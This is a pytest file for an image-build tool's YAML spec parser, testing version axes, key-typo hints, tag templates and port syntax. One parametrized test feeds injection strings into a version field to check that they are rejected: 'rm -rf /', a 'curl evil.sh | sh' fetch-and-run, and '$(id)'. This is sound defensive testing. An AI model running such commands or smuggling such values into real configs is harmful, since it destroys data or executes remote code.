from __future__ import annotations

from pathlib import Path

import pytest

from imgkit.errors import SpecError
from imgkit.matrix.spec import Spec, load_spec, parse_family

ROOT = Path(__file__).resolve().parent.parent


def family(**overrides: object) -> dict[str, object]:
    raw: dict[str, object] = {"family": "cuda", "axes": {"cuda": ["11.8", "12.4"],
                                                         "cudnn": ["9"], "nccl": ["default"]}}
    raw.update(overrides)
    return raw


def test_bundled_matrix_loads() -> None:
    spec = load_spec(ROOT / "images")
    names = {f.name for f in spec.families}
    assert {"cuda", "paddle", "pytorch"} <= names


def test_axes_expand_to_their_product_minus_excludes() -> None:
    fam = parse_family("f.yaml", family(exclude=[{"cuda": "12.4"}]))
    assert [c.cuda for c in fam.combos] == ["11.8"]
    fam = parse_family("f.yaml", family())
    assert len(fam.combos) == 2


@pytest.mark.parametrize("value, reason", [
    (11.8, "read as a number"),
    ("", "empty value"),
    ("11.8; rm -rf /", "not a valid cuda value"),
    ("11.8\nRUN curl evil.sh | sh", "not a valid cuda value"),
    ("$(id)", "not a valid cuda value"),
    (None, "expected cuda value"),
])
def test_bad_values_name_file_key_and_reason(value: object, reason: str) -> None:
    with pytest.raises(SpecError) as info:
        parse_family("images/x.yaml", family(axes={"cuda": [value]}))
    assert info.value.file == "images/x.yaml"
    assert info.value.key == "axes.cuda[0]"
    assert reason in info.value.reason


def test_unknown_axis_and_key_are_refused() -> None:
    with pytest.raises(SpecError, match="axes.gpu: unknown axis"):
        parse_family("f.yaml", family(axes={"cuda": ["11.8"], "gpu": ["a100"]}))
    with pytest.raises(SpecError, match="tagg: unknown key"):
        parse_family("f.yaml", family(tagg="x"))


def test_a_misspelt_key_axis_or_os_gets_the_name_meant() -> None:
    """What a team writes from memory: `Family:`, `cuda_version:`, `ubuntu22.04`, cuDNN as a
    library of cuda_libs; each said with what it means, in one run."""
    from imgkit.errors import SpecErrors
    raw = {"Family": "team", "cuda_libs": ["cudart", "cudnn"],
           "axes": {"cuda": ["12.4"], "os": ["ubuntu22.04"], "cuda_version": ["12.4"]}}
    with pytest.raises(SpecErrors) as info:
        parse_family("f.yaml", raw)
    said = {p.key: p.hint for p in info.value.problems}
    assert said["Family"] == "did you mean 'family'?"
    assert said["axes.cuda_version"].startswith("did you mean 'cuda'? known axes: ")
    assert said["axes.os[0]"].endswith("'jammy' would do")
    assert said["cuda_libs[1]"] == 'axes: {cudnn: ["9"]}'
    # nothing near: the keys there are, as before
    with pytest.raises(SpecError) as one:
        parse_family("f.yaml", family(colour="red"))
    assert one.value.hint.startswith("a CUDA stack family (no `framework:` or `extends:`) has: ")


def test_every_unknown_placeholder_of_a_tag_at_once_with_the_one_meant() -> None:
    with pytest.raises(SpecError) as info:
        parse_family("f.yaml", family(framework="paddle", repository="paddle",
                                      tag="{framework_versoin}-cuda{cuda_version}{gpu}",
                                      axes={"cuda": ["11.8"], "framework_version": ["2.6.2"]}))
    assert info.value.reason == "unknown placeholders {framework_versoin}, {cuda_version}, {gpu}"
    assert info.value.hint == ("{framework_version} for {framework_versoin}?; "
                               "{cuda} for {cuda_version}?")


def test_an_extension_written_as_other_tools_write_it_gets_each_form_to_use() -> None:
    """files as a list of from/to (compose's and CI tools' habit), env as KEY=VALUE lines,
    user as a bare name, a range or a bare name in pip: each with the form that works."""
    from imgkit.errors import SpecErrors
    raw = {"family": "app", "extends": {"family": "pytorch"}, "repository": "ml/app",
           "pip": ["einops==0.8.1", "requests>=2.31", "transformers"],
           "files": [{"from": "config/app.toml", "to": "/etc/app/app.toml"}],
           "env": ["A=1", "B=two words"], "user": "app"}
    with pytest.raises(SpecErrors) as info:
        parse_family("f.yaml", raw)
    said = {p.key: p.hint for p in info.value.problems}
    assert said["files"] == "write it as a mapping: {config/app.toml: /etc/app/app.toml}"
    assert said["env"] == 'write it as a mapping: {A: "1", B: "two words"}'
    assert said["user"] == "user: {name: app} (uid 1000 unless `uid:` says)"
    assert said["pip[1]"] == "pin it exactly, e.g. requests==2.31"
    assert said["pip[2]"].startswith("pin it exactly: transformers==VERSION (`pip index")


def test_tag_template_is_checked() -> None:
    with pytest.raises(SpecError, match="unknown placeholder"):
        parse_family("f.yaml", family(framework="paddle", repository="paddle",
                                      tag="{nope}", axes={"cuda": ["11.8"],
                                                          "framework_version": ["2.6.2"]}))
    with pytest.raises(SpecError, match="cannot hold") as info:
        parse_family("f.yaml", family(framework="paddle", repository="paddle",
                                      tag="a b{cuda}", axes={"cuda": ["11.8"],
                                                             "framework_version": ["2.6.2"]}))
    assert info.value.hint.endswith("'a-b{cuda}' would do"), info.value.hint
    with pytest.raises(SpecError, match="cannot hold: ':'") as info:     # the repository's ':'
        parse_family("f.yaml", family(framework="paddle", repository="paddle",
                                      tag="{framework_version}:{cuda}", axes={
                                          "cuda": ["11.8"], "framework_version": ["2.6.2"]}))
    assert info.value.hint.endswith("'{framework_version}-{cuda}' would do"), info.value.hint


def test_yaml_syntax_error_names_the_line(tmp_path: Path) -> None:
    (tmp_path / "bad.yaml").write_text("family: x\naxes: [\n")
    with pytest.raises(SpecError, match=r"bad.yaml: line \d+: not valid YAML"):
        load_spec(tmp_path)


def test_duplicate_family_names_are_refused(tmp_path: Path) -> None:
    for name in ("a.yaml", "b.yaml"):
        (tmp_path / name).write_text("family: same\naxes: {cuda: ['11.8']}\n")
    with pytest.raises(SpecError, match="also declared in"):
        load_spec(tmp_path)


def test_a_tf32_claim_is_a_framework_familys_and_must_be_on_or_off() -> None:
    torch = family(family="pt", framework="torch", repository="pytorch",
                   tag="{framework_version}-cuda{cuda}",
                   axes={"cuda": ["12.4"], "cudnn": ["9.1"], "nccl": ["2.21"],
                         "framework_version": ["2.5.1"]})
    assert parse_family("f.yaml", {**torch, "tf32": "off"}).tf32 == "off"
    assert parse_family("f.yaml", {**torch, "tf32": True}).tf32 == "on"    # YAML's `on`
    with pytest.raises(SpecError, match="tf32: expected on or off"):
        parse_family("f.yaml", {**torch, "tf32": "fast"})
    with pytest.raises(SpecError, match="tf32: not a key of a CUDA stack family"):
        parse_family("f.yaml", family(tf32="on"))
    with pytest.raises(SpecError, match="imgkit knows how to switch TF32 for"):
        parse_family("f.yaml", {**torch, "framework": "mxnet", "tf32": "on"})


@pytest.mark.parametrize("raw, days", [("30d", 30), ("7d", 7), (None, None)])
def test_max_base_age_is_days(raw: object, days: object) -> None:
    family = parse_family("images/x.yaml", {"family": "x", "axes": {"cuda": ["12.8"]},
                                            **({"max_base_age": raw} if raw else {})})
    assert family.max_base_age == days


@pytest.mark.parametrize("raw", ["30", "0d", "1w", 30, "-1d"])
def test_a_bad_max_base_age_names_the_key(raw: object) -> None:
    with pytest.raises(SpecError) as info:
        parse_family("images/x.yaml", {"family": "x", "axes": {"cuda": ["12.8"]},
                                       "max_base_age": raw})
    assert info.value.key == "max_base_age"


def test_the_strictest_max_base_age_of_the_families_on_a_base_wins() -> None:
    from imgkit.matrix.compat import load
    from imgkit.matrix.plan import make_plan
    a = parse_family("a.yaml", {"family": "a", "cuda_libs": ["cudart"], "axes": {"cuda": ["12.8"]},
                                "max_base_age": "30d"})
    b = parse_family("b.yaml", {"family": "b", "cuda_libs": ["cudart"], "axes": {"cuda": ["12.4"]},
                                "max_base_age": "7d"})
    plan = make_plan(Spec((a, b)), load())
    assert [t.max_base_age for t in plan.targets if t.layer == "python"] == [7]


def test_a_file_that_is_no_text_or_a_folder_is_said_so(tmp_path: Path) -> None:
    from imgkit.matrix.checkfile import load_checks
    from imgkit.yamlload import read_file, read_with_lines
    binary = tmp_path / "compat.yaml"
    binary.write_bytes(bytes(range(128, 256)))
    for read in (read_file, read_with_lines):
        with pytest.raises(SpecError, match="is not a text file"):
            read(binary)
        with pytest.raises(SpecError, match="is a folder, not a file"):
            read(tmp_path)
    with pytest.raises(SpecError, match="is a folder, not a check file"):
        load_checks(tmp_path)


@pytest.mark.parametrize("port, hint", [
    ("8080/tcp", "write the number: 8080 (TCP, as EXPOSE's default)"),
    ("53/udp", "write the number: 53 (ports are TCP; imgkit does not expose UDP)"),
])
def test_a_port_as_expose_spells_it_gets_the_number(port: str, hint: str) -> None:
    raw = {"family": "x", "extends": {"family": "paddle"}, "repository": "ml/x",
           "tag": "{parent_tag}", "apt": ["jq"], "ports": [port]}
    with pytest.raises(SpecError) as info:
        parse_family("images/x.yaml", raw)
    assert info.value.key == "ports[0]" and info.value.hint == hint
